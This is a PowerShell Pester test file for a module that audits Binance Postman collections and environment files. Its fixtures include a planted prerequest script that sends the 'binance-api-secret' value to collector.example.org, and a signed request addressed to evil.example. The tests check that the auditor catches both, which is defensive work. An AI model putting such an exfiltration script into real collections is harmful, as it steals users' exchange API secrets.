BeforeAll {
    Import-Module (Join-Path $PSScriptRoot 'TestHelpers.psm1') -Force
    Import-Module (Get-ModulePath) -Force
    $schema = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json'
    $evil = Join-Path $TestDrive 'evil.postman_collection.json'
    [ordered]@{
        info  = @{ name = 'Evil Copy'; schema = $schema }
        item  = @(@{ name = 'Account'; request = @{ method = 'GET'; url = 'https://api-binance.example.net/api/v3/account' } })
        event = @(@{ listen = 'prerequest'; script = @{ type = 'text/javascript'; exec = @(
                        "const secret = pm.environment.get('binance-api-secret');",
                        "pm.sendRequest('https://collector.example.org/?s=' + secret);") } })
    } | ConvertTo-Json -Depth 8 | Set-Content $evil
    function New-ScriptCollection([string] $Path, [string] $Name, [string[]] $Script, [hashtable] $Request) {
        if (-not $Request) { $Request = @{ method = 'GET'; url = '{{url}}/api/v3/account' } }
        [ordered]@{
            info  = @{ name = $Name; schema = $schema }
            item  = @(@{ name = 'Account'; request = $Request })
            event = @(@{ listen = 'prerequest'; script = @{ type = 'text/javascript'; exec = $Script } })
        } | ConvertTo-Json -Depth 10 | Set-Content $Path
    }
    # a user's own signing script: CryptoJS HMAC of the query with the secret as key, the signature appended to the query
    $cryptoJs = Join-Path $TestDrive 'cryptojs.postman_collection.json'
    New-ScriptCollection $cryptoJs 'CryptoJS Variant' @(
        "var apiSecret = pm.environment.get('binance-api-secret');",
        "pm.request.url.addQueryParams('timestamp=' + Date.now());",
        "var signature = CryptoJS.HmacSHA256(pm.request.url.getQueryString(), apiSecret).toString(CryptoJS.enc.Hex);",
        "pm.request.url.addQueryParams('signature=' + signature);",
        "pm.request.headers.upsert({ key: 'X-MBX-APIKEY', value: pm.environment.get('binance-api-key') });")
    # WebCrypto, Ed25519
    $subtle = Join-Path $TestDrive 'subtle.postman_collection.json'
    New-ScriptCollection $subtle 'Subtle Ed25519' @(
        "const pem = pm.environment.get('private-key').replace(/-----[A-Z ]+-----/g, '').replace(/\s/g, '');",
        "const key = await crypto.subtle.importKey('pkcs8', Uint8Array.from(atob(pem), c => c.charCodeAt(0)), { name: 'Ed25519' }, false, ['sign']);",
        "const payload = 'timestamp=' + Date.now();",
        "const raw = await crypto.subtle.sign('Ed25519', key, new TextEncoder().encode(payload));",
        "pm.request.url.query.add({ key: 'signature', value: btoa(String.fromCharCode(...new Uint8Array(raw))) });")
    # a request written out to another host, with the API-key header and a signature
    $literal = Join-Path $TestDrive 'literal.postman_collection.json'
    [ordered]@{
        info = @{ name = 'Literal Evil'; schema = $schema }
        item = @(@{ name = 'Account Information (USER_DATA)'; request = @{ method = 'GET'
                    header = @(@{ key = 'X-MBX-APIKEY'; value = '{{binance-api-key}}' })
                    url = @{ raw = 'https://evil.example/api/v3/account?timestamp={{timestamp}}&signature={{signature}}'; protocol = 'https'; host = @('evil', 'example')
                        path = @('api', 'v3', 'account'); query = @(@{ key = 'timestamp'; value = '{{timestamp}}' }, @{ key = 'signature'; value = '{{signature}}' }) } } })
    } | ConvertTo-Json -Depth 10 | Set-Content $literal
    $keysEnv = Join-Path $TestDrive 'keys.postman_environment.json'
    @{ name = 'Audit Keys'; values = @(
            @{ key = 'url'; value = 'https://api.binance.com'; enabled = $true },
            @{ key = 'binance-api-key'; value = ('k' * 40) + ('1' * 24); enabled = $true }) } | ConvertTo-Json -Depth 4 | Set-Content $keysEnv
}

Describe 'Test-BinanceCollection' {
    It 'finds nothing to warn about in the bundled collections and environments' {
        $module = Get-ModulePath
        $findings = Test-BinanceCollection (Join-Path $module 'collections'), (Join-Path $module 'environments')
        @($findings | Where-Object Severity -NE 'Info') | Should -HaveCount 0
        @($findings | Where-Object Finding -Match 'signing script') | Should -HaveCount 7
    }

    It 'emits typed findings for planted problems, with file, location, line and advice' {
        $findings = Test-BinanceCollection $evil
        $findings[0].PSObject.TypeNames[0] | Should -Be 'BinancePostman.Catalog.AuditFinding'
        $errors = @($findings | Where-Object Severity -EQ 'Error')
        $errors.Finding | Should -Contain "The script sends the secret 'binance-api-secret' in a request of its own."
        ($findings | Where-Object Finding -Match 'api-binance.example.net').Severity | Should -Be 'Warning'
        $errors[0].File | Should -Be $evil
        $errors[0].Line | Should -BeGreaterThan 0
        $errors[0].Advice | Should -Not -BeNullOrEmpty
        (Test-BinanceCollection $evil -MinimumSeverity Error).Severity | Sort-Object -Unique | Should -Be 'Error'
    }

    It 'sees a signing script of another spelling as the signing pattern: <Name>' -ForEach @(
        @{ Name = 'CryptoJS, signature appended to the query'; File = 'cryptojs.postman_collection.json' },
        @{ Name = 'crypto.subtle with an Ed25519 key'; File = 'subtle.postman_collection.json' }
    ) {
        $findings = Test-BinanceCollection (Join-Path $TestDrive $File)
        @($findings | Where-Object Severity -NE 'Info') | Should -HaveCount 0
        @($findings | Where-Object Finding -Match '^The collection carries a request-signing script') | Should -HaveCount 1
    }

    It 'finds a signed request written out to another host an error, and the module refuses to send it there' {
        $finding = Test-BinanceCollection $literal
        $finding.Severity | Should -Be 'Error'
        $finding.Finding | Should -Be '1 request(s) go to evil.example, which is not a Binance host; it carries the API key or a signature.'
        $finding.Advice | Should -Match 'Connect-Binance -TrustedHost'
        Import-BinanceCollection $literal -WarningVariable warned -WarningAction SilentlyContinue | Out-Null
        $warned.Message | Should -Match '^Audit error: literal\.postman_collection\.json, .*evil\.example'
        $credential = [pscredential]::new('k', (ConvertTo-SecureString 's' -AsPlainText -Force))
        $err = $null
        try { Invoke-BinanceRequest 'Account Information (USER_DATA)' -Collection 'Literal Evil' -Credential $credential -ErrorAction Stop } catch { $err = $_ }
        $err.FullyQualifiedErrorId | Should -BeLike 'BinancePostman.UntrustedHost,*'
        "$err" | Should -Match ([regex]::Escape("evil.example is not a Binance host: it comes from the URL written in the request 'Account Information (USER_DATA)' of the collection 'Literal Evil'"))
    }

    It 'takes files from Get-ChildItem by property name, and -LiteralPath' {
        $fromPipe = Get-ChildItem $TestDrive -Filter *.json | Test-BinanceCollection -MinimumSeverity Warning
        ($fromPipe.File | Sort-Object -Unique) | Should -Be (@($evil, $literal, $keysEnv) | Sort-Object)
        (Test-BinanceCollection -LiteralPath $keysEnv).Location | Should -Be "values 'binance-api-key'"
    }

    It 'reports a broken file as a finding, and a missing path as an error' {
        $broken = Join-Path $TestDrive 'broken.json'
        Set-Content $broken '{ "info": { "name": "x",, } }'
        $finding = Test-BinanceCollection $broken
        $finding.Severity | Should -Be 'Error'
        $finding.Line | Should -Be 1
        Remove-Item $broken
        Test-BinanceCollection (Join-Path $TestDrive 'nope.json') -ErrorVariable err -ErrorAction SilentlyContinue
        $err[0].FullyQualifiedErrorId | Should -BeLike 'BinancePostman.Catalog.FileNotFound*'
    }

    It 'shows as a table with severity, file, location, line and finding' {
        $text = Test-BinanceCollection $evil | Out-String -Width 200
        $text | Should -Match 'Severity\s+File\s+Location\s+Line\s+Finding'
        $text | Should -Match 'evil\.postman_collection\.json'
    }
}

Describe 'Import-BinanceCollection and Import-BinanceEnvironment audit what they load' {
    It 'warns with each warning and error finding, one line with its advice, and still loads the file' {
        $out = Import-BinanceCollection $evil -PassThru 3>&1
        $warnings = @($out | Where-Object { $_ -is [System.Management.Automation.WarningRecord] })
        $warnings.Count | Should -Be @(Test-BinanceCollection $evil -MinimumSeverity Warning).Count
        $warnings.Message | Where-Object { $_ -match "^Audit error: evil\.postman_collection\.json, .* \(line \d+\): The script sends the secret 'binance-api-secret'.*Do not use this collection" } | Should -HaveCount 1
        ($out | Where-Object { $_ -isnot [System.Management.Automation.WarningRecord] }).Name | Should -Be 'Evil Copy'
        Get-BinanceCollection 'Evil Copy' | Should -Not -BeNullOrEmpty
    }

    It 'warns about keys in an environment file' {
        $warnings = Import-BinanceEnvironment $keysEnv 3>&1
        $warnings.Message | Should -Match "^Audit warning: keys\.postman_environment\.json, values 'binance-api-key' \(line \d+\): .*real API key"
        Get-BinanceEnvironment 'Audit Keys' | Should -Not -BeNullOrEmpty
    }

    It 'is quiet with -SkipAudit, and for Binance''s own download' {
        @(Import-BinanceCollection $evil -SkipAudit 3>&1) | Should -HaveCount 0
        $fixtures = Join-Path (Get-SharedFixtures) 'binance-api-postman/2026-07-generation'
        @(Import-BinanceCollection (Join-Path $fixtures 'collections') 3>&1) | Should -HaveCount 0
        @(Import-BinanceEnvironment (Join-Path $fixtures 'environments') 3>&1) | Should -HaveCount 0
    }
}
